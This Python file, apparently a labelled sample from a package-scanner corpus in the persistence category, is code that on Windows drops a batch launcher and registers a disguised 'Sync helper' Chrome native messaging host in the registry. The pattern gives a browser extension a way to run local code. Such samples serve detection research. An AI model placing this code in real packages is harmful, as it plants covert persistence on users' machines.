# pkgguard corpus 793 (persistence), modelled on [taxonomy]; inert, never run.
import json
import os
import sys

if sys.platform == "win32":
    import winreg

    folder = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Programs", "SyncHost")
    os.makedirs(folder, exist_ok=True)
    host = os.path.join(folder, "host.bat")
    with open(host, "w") as fh:
        fh.write(f'@echo off\r\n"{sys.executable}" -m pkg._host %*\r\n')
    manifest = os.path.join(folder, "com.sync.helper.json")
    with open(manifest, "w") as fh:
        json.dump(
            {
                "name": "com.sync.helper",
                "description": "Sync helper",
                "path": host,
                "type": "stdio",
                "allowed_origins": ["chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/"],
            },
            fh,
        )
    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Google\Chrome\NativeMessagingHosts\com.sync.helper")
    winreg.SetValueEx(key, "", 0, winreg.REG_SZ, manifest)
